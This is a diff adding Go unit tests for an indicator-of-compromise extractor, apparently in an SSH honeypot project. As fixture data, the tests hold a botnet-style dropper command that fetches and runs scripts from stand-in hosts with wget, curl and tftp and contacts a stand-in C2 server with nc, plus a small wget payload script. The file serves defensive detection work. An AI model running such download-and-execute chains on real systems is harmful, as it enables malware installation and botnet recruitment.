@@ -0,0 +1,76 @@
+package enrich
+
+import (
+	"reflect"
+	"testing"
+	"time"
+
+	"github.com/abehterev/fakessh/internal/logger"
+)
+
+func TestExtractIOCs(t *testing.T) {
+	command := "cd /tmp; wget http://198.51.100.23/bins.sh; curl -O https://evil.example.com/x86 || " +
+		"tftp 203.0.113.9 -c get mips; chmod 777 bins.sh; sh bins.sh; echo 44d88612fea8a8f36de82e1278abb02f > /dev/null; " +
+		"nc c2.Botnet.example.net 6667"
+
+	expected := []IOC{
+		{Type: IOCURL, Value: "http://198.51.100.23/bins.sh"},
+		{Type: IOCIP, Value: "198.51.100.23"},
+		{Type: IOCURL, Value: "https://evil.example.com/x86"},
+		{Type: IOCDomain, Value: "evil.example.com"},
+		{Type: IOCIP, Value: "203.0.113.9"},
+		{Type: IOCDomain, Value: "c2.botnet.example.net"},
+		{Type: IOCMD5, Value: "44d88612fea8a8f36de82e1278abb02f"},
+	}
+	if got := ExtractIOCs(command); !reflect.DeepEqual(got, expected) {
+		t.Errorf("Expected %v, got %v", expected, got)
+	}
+
+	if got := ExtractIOCs("uname -a; cat /proc/cpuinfo; 999.1.1.1"); len(got) != 0 {
+		t.Errorf("Expected no indicators, got %v", got)
+	}
+}
+
+func TestExtractPayloadIOCs(t *testing.T) {
+	iocs := ExtractPayloadIOCs([]byte("#!/bin/sh\nwget http://203.0.113.5/a.arm7\n"))
+	if len(iocs) != 5 {
+		t.Fatalf("Expected 3 hashes, a URL and an address, got %v", iocs)
+	}
+	if iocs[2].Type != IOCSHA256 || len(iocs[2].Value) != 64 {
+		t.Errorf("Expected SHA-256 of the payload, got %v", iocs[2])
+	}
+
+	binary := ExtractPayloadIOCs([]byte{0x7f, 'E', 'L', 'F', 0xff, 0xfe})
+	if len(binary) != 3 {
+		t.Errorf("Expected only hashes of a binary payload, got %v", binary)
+	}
+}
+
+func TestIOCExtractorProcess(t *testing.T) {
+	var logged []*logger.Event
+	x := NewIOCExtractor(func(event *logger.Event) error {
+		logged = append(logged, event)
+		return nil
+	})
+
+	event := &logger.Event{ID: "parent", Time: time.Now(), Type: "command"}
+	event.Set("remote_addr", "203.0.113.10:40000")
+	event.Set("command", "wget http://198.51.100.23/bins.sh")
+	x.Process(event)
+
+	if len(logged) != 2 {
+		t.Fatalf("Expected 2 ioc events, got %d", len(logged))
+	}
+	ioc := logged[0]
+	if ioc.Type != "ioc" || ioc.GetString("ioc_type") != IOCURL || ioc.GetString("ioc_source") != "command" {
+		t.Errorf("Unexpected ioc event: %+v", ioc)
+	}
+	if ioc.GetString("parent_event_id") != "parent" || ioc.GetString("remote_addr") != "203.0.113.10:40000" {
+		t.Errorf("Expected ioc event to be linked to its source, got %+v", ioc.Fields)
+	}
+
+	x.Process(logger.NewAuthEvent(logger.CredentialAttempt{Username: "root", Password: "http://example.com"}))
+	if len(logged) != 2 {
+		t.Errorf("Expected events without command to be ignored")
+	}
+}